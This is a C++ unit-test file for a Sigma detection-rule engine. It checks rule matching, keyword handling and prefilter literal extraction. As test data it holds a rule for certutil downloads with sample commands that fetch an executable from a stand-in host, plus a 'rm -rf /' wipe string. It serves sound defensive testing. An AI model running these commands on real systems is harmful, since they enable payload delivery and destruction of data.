// Compiled Sigma rules evaluated against events: selections as maps (AND), lists of maps (OR),
// keyword lists over the keyword texts, `'|all'` keywords, conditions with `not` over absent
// fields, and the compiled leaves the literal prefilter will enumerate (field, kind, literal,
// anchor, case, negation).
#include "sigma_test_lookup.h"

#include <gtest/gtest.h>

namespace {

using namespace vigie;
using namespace vigie::detect;
using test::MapLookup;

const char* kProcessRule = R"(title: Suspicious certutil download
id: 19b08b1c-861d-4e75-a1ef-ea0c1baf202b
logsource: {product: windows, category: process_creation}
detection:
    selection_img:
        - Image|endswith: '\certutil.exe'
        - OriginalFileName: 'CertUtil.exe'
    selection_cli:
        CommandLine|contains|all:
            - 'urlcache'
            - 'http'
    filter_main_local:
        CommandLine|contains: '127.0.0.1'
    condition: all of selection_* and not 1 of filter_main_*
)";

TEST(SigmaMatcher, MapsListsOfMapsAndFilters)
{
    const auto rule = test::compileYaml(kProcessRule);
    ASSERT_TRUE(rule);
    EXPECT_TRUE(rule->matches(
        MapLookup(test::Fields{{"Image", "C:\\Windows\\System32\\certutil.exe"},
                               {"CommandLine", "certutil -urlcache -f http://x/a.exe a.exe"}})));
    // Renamed binary: the second map of the list matches.
    EXPECT_TRUE(rule->matches(MapLookup(test::Fields{{"Image", "C:\\tmp\\c.exe"},
                                                     {"OriginalFileName", "certutil.exe"},
                                                     {"CommandLine", "c -URLCACHE -f HTTP://x/a.exe"}})));
    EXPECT_FALSE(rule->matches(
        MapLookup(test::Fields{{"Image", "C:\\Windows\\System32\\certutil.exe"},
                               {"CommandLine", "certutil -urlcache -f http://127.0.0.1/a.exe"}})));
    EXPECT_FALSE(rule->matches(MapLookup(test::Fields{{"Image", "C:\\Windows\\System32\\certutil.exe"},
                                                      {"CommandLine", "certutil -urlcache"}})));
    EXPECT_FALSE(rule->matches(MapLookup(test::Fields{{"CommandLine", "certutil -urlcache -f http://x"}})));
}

TEST(SigmaMatcher, NotOfAnAbsentFieldHolds)
{
    const auto rule = test::compileYaml(test::ruleWith(
        "        EventID: 4648\n    filter:\n        IpAddress: '-'\n", "selection and not filter"));
    ASSERT_TRUE(rule);
    EXPECT_TRUE(rule->matches(MapLookup(test::Fields{{"EventID", "4648"}, {"IpAddress", "172.16.144.128"}})));
    EXPECT_TRUE(rule->matches(MapLookup(test::Fields{{"EventID", "4648"}})));
    EXPECT_FALSE(rule->matches(MapLookup(test::Fields{{"EventID", "4648"}, {"IpAddress", "-"}})));
}

TEST(SigmaMatcher, KeywordsSearchEveryKeywordText)
{
    const auto rule =
        test::compileYaml("title: k\nlogsource: {product: linux}\ndetection:\n"
                          "    keywords:\n        - 'Accepted password for root'\n        - 'rm -rf /'\n"
                          "    condition: keywords\n");
    ASSERT_TRUE(rule);
    EXPECT_TRUE(
        rule->matches(MapLookup(test::Fields{}, {"sshd[12]: accepted password for ROOT from 10.0.0.1"})));
    EXPECT_TRUE(
        rule->matches(MapLookup(test::Fields{}, {"nothing here", "cmd: rm -rf / --no-preserve-root"})));
    EXPECT_FALSE(rule->matches(MapLookup(test::Fields{}, {"Accepted publickey for root"})));
    EXPECT_FALSE(rule->matches(MapLookup(test::Fields{{"message", "rm -rf /"}})));
}

TEST(SigmaMatcher, AllKeywordsMustEachAppear)
{
    const auto rule =
        test::compileYaml("title: k\nlogsource: {product: cisco}\ndetection:\n"
                          "    keywords:\n        '|all':\n            - 'bgp'\n            - 'MD5'\n"
                          "    condition: keywords\n");
    ASSERT_TRUE(rule);
    EXPECT_TRUE(
        rule->matches(MapLookup(test::Fields{}, {"%TCP-6-BADAUTH: No MD5 digest from 10.0.0.1 (BGP)"})));
    EXPECT_TRUE(rule->matches(MapLookup(test::Fields{}, {"bgp neighbour", "md5 failure"})));
    EXPECT_FALSE(rule->matches(MapLookup(test::Fields{}, {"BGP session up"})));
}

TEST(SigmaMatcher, OneOfThemSkipsUnderscoreSelections)
{
    const auto rule = test::compileYaml("title: t\nlogsource: {product: windows}\ndetection:\n"
                                        "    a: {X: '1'}\n    _helper: {Y: '2'}\n    condition: 1 of them\n");
    ASSERT_TRUE(rule);
    EXPECT_TRUE(rule->matches(MapLookup(test::Fields{{"X", "1"}})));
    EXPECT_FALSE(rule->matches(MapLookup(test::Fields{{"Y", "2"}})));
}

TEST(SigmaMatcher, LeavesExposeLiteralsForAPrefilter)
{
    const auto rule = test::compileYaml(kProcessRule);
    ASSERT_TRUE(rule);
    ASSERT_EQ(rule->selections().size(), 3u);
    const CompiledSelection& img = rule->selections()[0];
    EXPECT_EQ(img.name, "selection_img");
    ASSERT_EQ(img.branches.size(), 2u);
    const Leaf& image = img.branches[0][0];
    EXPECT_EQ(image.field, "Image");
    ASSERT_EQ(image.values.size(), 1u);
    const ValueMatcher& suffix = image.values[0][0];
    EXPECT_EQ(suffix.kind, ValueMatcher::Kind::Pattern);
    EXPECT_EQ(suffix.pattern.anchor(), ValuePattern::Anchor::Suffix);
    EXPECT_EQ(suffix.pattern.literal(), "\\certutil.exe");
    EXPECT_FALSE(suffix.pattern.cased());
    const Leaf& original = img.branches[1][0];
    EXPECT_EQ(original.values[0][0].pattern.anchor(), ValuePattern::Anchor::Exact);
    EXPECT_EQ(original.values[0][0].pattern.literal(), "certutil.exe"); // folded
    const Leaf& cli = rule->selections()[1].branches[0][0];
    EXPECT_TRUE(cli.all);
    EXPECT_EQ(cli.values.size(), 2u);
    EXPECT_EQ(cli.values[1][0].pattern.anchor(), ValuePattern::Anchor::Contains);
    // The filter is negated in the normal form: a prefilter must not require its literals.
    const CondNode& nnf = rule->normalCondition();
    ASSERT_EQ(nnf.kind, CondNode::Kind::And);
    ASSERT_EQ(nnf.children.size(), 3u);
    EXPECT_EQ(nnf.children[2].kind, CondNode::Kind::Not);
    EXPECT_EQ(nnf.children[2].children[0].ref, 2u);
}

TEST(SigmaMatcher, GlobAndEncodedValuesAreNotPlainLiterals)
{
    const auto rule = test::compileYaml(test::ruleWith("        A: 'C:\\\\*\\evil.exe'\n"
                                                       "        B|base64offset|contains: 'secret'\n"
                                                       "        C|windash|contains: ' -s '\n"));
    ASSERT_TRUE(rule);
    const auto& leaves = rule->selections()[0].branches[0];
    EXPECT_EQ(leaves[0].values[0][0].pattern.anchor(), ValuePattern::Anchor::Glob);
    ASSERT_EQ(leaves[1].values[0].size(), 3u); // three alignments, ORed within one value
    for (const ValueMatcher& m : leaves[1].values[0]) {
        EXPECT_EQ(m.pattern.anchor(), ValuePattern::Anchor::Contains);
        EXPECT_TRUE(m.pattern.cased());
    }
    EXPECT_EQ(leaves[2].values[0][0].pattern.anchor(), ValuePattern::Anchor::Glob); // dash class piece
}

} // namespace
